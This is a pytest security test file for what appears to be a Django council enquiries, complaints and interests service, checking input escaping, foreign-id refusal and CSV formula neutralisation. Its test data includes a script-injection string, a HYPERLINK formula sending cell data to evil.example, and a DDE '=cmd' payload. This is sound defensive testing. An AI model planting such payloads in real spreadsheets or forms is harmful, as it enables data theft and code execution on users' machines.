"""Bad input: hostile, oversized and wrongly typed values get a clear message and never a 500;
the browser keeps what was typed; CSV exports cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest

from tests.security.conftest import AS_OF
from tests.security.worlds import Call, raise_conduct_complaint, run_rolled_back

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_TEXT = [SCRIPT, FORMULA, "+1+1", "-2+3", "@SUM(A1)", "x" * 100_000, "\x00nul", "é" * 300]
WRONG_TYPES = [[], {"a": 1}, 12345, True, None]


def test_enquiry_form_keeps_hostile_input_escaped_and_never_errors(frozen_world, client, capsys):
    world = frozen_world("enquiries")
    org = world.extra["org"]
    client.force_login(org.raiser.person)
    examples = 0
    for value in HOSTILE_TEXT:
        examples += 1
        response, _ = run_rolled_back(
            Call("POST", "/enquiries/new/", {"subject": value, "description": value}), client
        )
        assert response.status_code in (200, 400), response.status_code
        body = response.content.decode()
        assert "govuk-error-summary" in body, "the form is re-rendered with its errors"
        assert SCRIPT not in body, "what was typed is escaped, never run"
        if value == SCRIPT:
            assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in body, "and kept"
    with capsys.disabled():
        print(f"\n[bad input] enquiry form: {examples} hostile examples re-rendered, 0 errors")


def test_api_answers_wrong_types_and_foreign_ids_with_400(frozen_world, client, capsys):
    world = frozen_world("enquiries")
    org, away = world.extra["org"], world.extra["away"]
    case = world.cases["received"]
    client.force_login(case.owner_post.holder)
    base = f"/api/v1/enquiries/{case.reference}/"
    bodies = [{"reason": v, "to_post": v} for v in WRONG_TYPES + HOSTILE_TEXT[:3]]
    bodies.append({"to_post": away.ce.slug, "reason": "Foreign post"})  # another council's post
    bodies.append({"officer": away.ce.holder.username})
    examples = 0
    for action in ("reassign", "clarify", "respond", "involved", "flags"):
        for body in bodies:
            examples += 1
            response, _ = run_rolled_back(Call("POST", f"{base}{action}/", body, api=True), client)
            assert response.status_code < 500, (action, body, response.status_code)
            if response.status_code == 400:
                assert response.json(), "400 names the fields"
    client.force_login(org.raiser.person)
    for body in bodies:
        examples += 1
        response, _ = run_rolled_back(Call("POST", "/api/v1/enquiries/", body, api=True), client)
        assert response.status_code == 400, (body, response.status_code)
        assert response.json()
    with capsys.disabled():
        print(f"\n[bad input] enquiry API: {examples} malformed or foreign bodies, 0 server errors")


def test_csv_exports_neutralise_formulas(frozen_world, client):
    from enquiries import services

    world = frozen_world("enquiries")
    case = world.cases["received"]
    services.enquiry_close(enquiry=case, reason=FORMULA, actor=case.owner_post.holder, as_of=AS_OF)
    client.force_login(case.owner_post.holder)
    response = client.get(f"/enquiries/{case.reference}/export.csv")
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert any(FORMULA in c for c in cells), "the hostile text is exported"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "but never as a formula"


# --------------------------------------------------------------------- complaints and interests


def _form_keeps_what_was_typed(client, url: str, data: dict, typed: list[str]) -> int:
    """Post each hostile value into the typed fields (the form stays invalid because `data`
    leaves a required field out): re-rendered with its errors, escaped, nothing lost."""
    examples = 0
    for value in HOSTILE_TEXT:
        examples += 1
        body = dict(data) | dict.fromkeys(typed, value)
        response, _ = run_rolled_back(Call("POST", url, body), client)
        assert response.status_code in (200, 400), (url, value[:20], response.status_code)
        page = response.content.decode()
        assert "govuk-error-summary" in page, (url, "the form is re-rendered with its errors")
        assert SCRIPT not in page, (url, "what was typed is escaped, never run")
        if typed and value in (SCRIPT, FORMULA, "x" * 100_000):
            from django.utils.html import escape

            assert escape(value) in page, (url, value[:20], "what was typed is kept")
    return examples


def _api_never_errors(client, url: str, bodies: list[dict], *, foreign: list[dict]) -> int:
    """Wrongly typed and hostile bodies: never a 500, a 400 names the fields; a body naming
    another council's objects is refused (never 2xx)."""
    examples = 0
    for body in bodies:
        examples += 1
        response, _ = run_rolled_back(Call("POST", url, body, api=True), client)
        assert response.status_code < 500, (url, body, response.status_code)
        if response.status_code == 400:
            assert response.json(), "400 names the fields"
    for body in foreign:
        examples += 1
        response, _ = run_rolled_back(Call("POST", url, body, api=True), client)
        assert response.status_code in (400, 403, 404), (url, body, response.status_code)
    return examples


def _typed(fields: list[str]) -> list[dict]:
    return [dict.fromkeys(fields, v) for v in WRONG_TYPES + HOSTILE_TEXT[:3] + ["x" * 100_000]]


def test_complaint_forms_and_api_handle_hostile_input(frozen_world, client, capsys):
    world = frozen_world("complaints")
    o, away = world.extra["org"], world.extra["away"]
    complainant, handler = world.people["complainant"], world.people["handler"]
    received = world.cases["received"]
    forms = 0
    client.force_login(complainant)
    # The kind is left out, so the form is always re-rendered.
    forms += _form_keeps_what_was_typed(
        client,
        "/complaints/new/",
        {"council": o.council.pk, "subject_post": o.officer.pk},
        ["summary", "details"],
    )
    client.force_login(handler)
    forms += _form_keeps_what_was_typed(
        client,
        f"/complaints/{received.pk}/acknowledge/",
        {"intent": "needs_time", "outcome_due_on": "not a date"},
        ["message"],
    )
    forms += _form_keeps_what_was_typed(
        client,
        f"/complaints/{world.cases['investigating'].pk}/outcome/",
        {"action_taken": "yes"},
        ["reasons"],
    )
    # Foreign ids in the browser: another council's post is not a choice.
    response, _ = run_rolled_back(
        Call(
            "POST",
            f"/complaints/{world.cases['acknowledged'].pk}/investigator/",
            {"investigator_post": away.ce.pk},
        ),
        client,
    )
    assert response.status_code == 400, response.status_code
    assert "govuk-error-summary" in response.content.decode()
    forms += 1

    api = 0
    base = f"/api/v1/complaints/{received.pk}/"
    api += _api_never_errors(
        client,
        f"{base}acknowledge/",
        _typed(["intent", "message", "outcome_due_on"]),
        foreign=[],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/complaints/{world.cases['acknowledged'].pk}/nominate-investigator/",
        _typed(["investigator_post"]),
        foreign=[{"investigator_post": away.ce.pk}, {"investigator_post": away.ce.slug}],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/complaints/{world.cases['investigating'].pk}/outcome/",
        _typed(["outcome", "reasons", "action_taken", "disciplinary_notes"]),
        foreign=[],
    )
    api += _api_never_errors(client, f"{base}release-to-subject/", _typed(["text"]), foreign=[])
    client.force_login(complainant)
    create = {"council": o.council.slug, "kind": "concern_about_officer", "summary": "Rude"}
    api += _api_never_errors(
        client,
        "/api/v1/complaints/",
        _typed(["council", "kind", "subject_post", "subject_member", "summary", "details"]),
        foreign=[
            create | {"subject_post": away.ce.pk},
            create | {"council": away.council.slug, "subject_post": o.officer.pk},
            {
                "council": o.council.slug,
                "kind": "code_of_conduct",
                "subject_member": away.member.pk,
            },
        ],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/complaints/{world.cases['outcome_issued'].pk}/respond/",
        _typed(["choice", "reason"]),
        foreign=[],
    )
    with capsys.disabled():
        print(
            f"\n[bad input] complaint forms: {forms} hostile examples re-rendered and kept; "
            f"complaint API: {api} malformed or foreign bodies, 0 server errors"
        )


def test_interest_forms_and_api_handle_hostile_input(frozen_world, settings, tmp_path, capsys):
    from django.test import Client

    from tests.security.worlds import WORLDS, interests_cast

    assert frozen_world  # the clock is frozen at AS_OF; the cast below is shared
    cast = interests_cast(AS_OF)
    worlds = {
        name: WORLDS[name](AS_OF, settings, tmp_path, cast=cast)
        for name in ("register_entries", "acting_against_notices", "advice_requests")
    }
    o, away, people = cast
    member, mo = people["member"], people["monitoring_officer"]
    client = Client()
    client.force_login(member)
    council = o.council.pk
    forms = 0
    forms += _form_keeps_what_was_typed(
        client,
        "/interests/relationships/new/",
        {"council": council, "other_person": people["related_person"].pk, "nature": "nope"},
        ["details"],
    )
    forms += _form_keeps_what_was_typed(
        client, "/interests/register/", {"council": council, "category": "nope"}, ["description"]
    )
    forms += _form_keeps_what_was_typed(
        client,
        "/interests/acting-against/new/",
        {"council": council, "acting_party": "spouse_partner", "capacity": "nope"},
        ["acting_party_name", "action"],
    )
    forms += _form_keeps_what_was_typed(
        client, "/interests/advice/new/", {"council": council, "confidential": "maybe"}, ["matter"]
    )
    # Foreign ids in the browser: a person of another council cannot be named.
    response, _ = run_rolled_back(
        Call(
            "POST",
            "/interests/relationships/new/",
            {"council": council, "other_person": away.ce.holder.pk, "nature": "family"},
        ),
        client,
    )
    assert response.status_code == 400, response.status_code
    forms += 1

    api = 0
    slug = o.council.slug
    api += _api_never_errors(
        client,
        "/api/v1/interests/relationships/",
        _typed(["council", "other_person", "nature", "since", "details"]),
        foreign=[
            {"council": slug, "other_person": away.ce.holder.username, "nature": "family"},
            {"council": slug, "other_person": away.ce.holder.pk, "nature": "family"},
            {"council": away.council.slug, "other_person": people["related_person"].pk},
        ],
    )
    api += _api_never_errors(
        client,
        "/api/v1/interests/register-entries/",
        _typed(["council", "category", "description", "value_pounds", "received_on"]),
        foreign=[{"council": away.council.slug, "category": "land", "description": "Home"}],
    )
    api += _api_never_errors(
        client,
        "/api/v1/interests/acting-against-notices/",
        _typed(["council", "acting_party", "acting_party_name", "capacity", "action"]),
        foreign=[
            {
                "council": away.council.slug,
                "acting_party": "self",
                "capacity": "private",
                "action": "Judicial review",
            }
        ],
    )
    api += _api_never_errors(
        client,
        "/api/v1/interests/advice-requests/",
        _typed(["council", "question", "matter", "confidential"]),
        foreign=[{"council": away.council.slug, "question": "Declare?"}],
    )
    api += _api_never_errors(
        client,
        "/api/v1/interests/conflict-check/",
        _typed(["council", "person", "kind", "people", "posts", "directorate", "committee"]),
        foreign=[{"council": away.council.slug, "person": away.ce.holder.pk, "kind": "complaint"}],
    )
    client.force_login(mo)
    entry = worlds["register_entries"].cases["registered"]
    notice = worlds["acting_against_notices"].cases["submitted"]
    advice = worlds["advice_requests"].cases["requested"]
    forms += _form_keeps_what_was_typed(
        client, f"/interests/register/interests/{entry.pk}/sensitivity/", {"agreed": "perhaps"}, []
    )
    forms += _form_keeps_what_was_typed(
        client, f"/interests/advice/{advice.pk}/", {"advice": ""}, []
    )
    api += _api_never_errors(
        client,
        f"/api/v1/interests/register-entries/{entry.pk}/sensitivity/",
        _typed(["agreed"]),
        foreign=[],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/interests/acting-against-notices/{notice.pk}/acknowledge/",
        _typed(["response"]),
        foreign=[],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/interests/advice-requests/{advice.pk}/advise/",
        _typed(["advice"]),
        foreign=[],
    )
    with capsys.disabled():
        print(
            f"\n[bad input] interest forms: {forms} hostile examples re-rendered and kept; "
            f"interest API: {api} malformed or foreign bodies, 0 server errors"
        )


def test_every_csv_export_neutralises_formulas(frozen_world, client, capsys):
    """Spreadsheet formulas typed into, or named in, anything a CSV export carries: the
    enquiries SLA dashboard (directorate names) and the complaints Standards summary (post
    titles, directorates)."""
    from complaints import services as complaint_services

    world = frozen_world("complaints")
    o = world.extra["org"]
    raise_conduct_complaint(o)
    o.mo.title = FORMULA  # the summary names the post handling each breach
    o.mo.save()
    summary = complaint_services.summary_generate(
        council=o.council, start=AS_OF.date().replace(day=1), end=AS_OF.date(), as_of=AS_OF
    )
    client.force_login(world.people["line_manager"])
    exports = []
    for url in (
        f"/complaints/summaries/{summary.pk}/csv/",
        f"/api/v1/complaint-summaries/{summary.pk}/csv/",
    ):
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        exports.append((url, response.content.decode()))
    e_world = frozen_world("enquiries")
    e_org = e_world.extra["org"]
    e_org.housing.name = "=cmd|' /C calc'!A0"
    e_org.housing.save()
    for state in ("responded", "closed"):
        assert e_world.cases[state].status == state
    client.force_login(e_org.ce.holder)
    response = client.get("/enquiries/dashboard.csv")
    assert response.status_code == 200, response.status_code
    exports.append(("/enquiries/dashboard.csv", response.content.decode()))
    cells = 0
    for url, text in exports:
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 1, (url, "the export has rows")
        for cell in (c for row in rows for c in row):
            cells += 1
            assert cell[:1] not in ("=", "+", "-", "@"), (url, cell)
    with capsys.disabled():
        print(f"\n[bad input] {len(exports)} CSV exports, {cells} cells: 0 formulas")
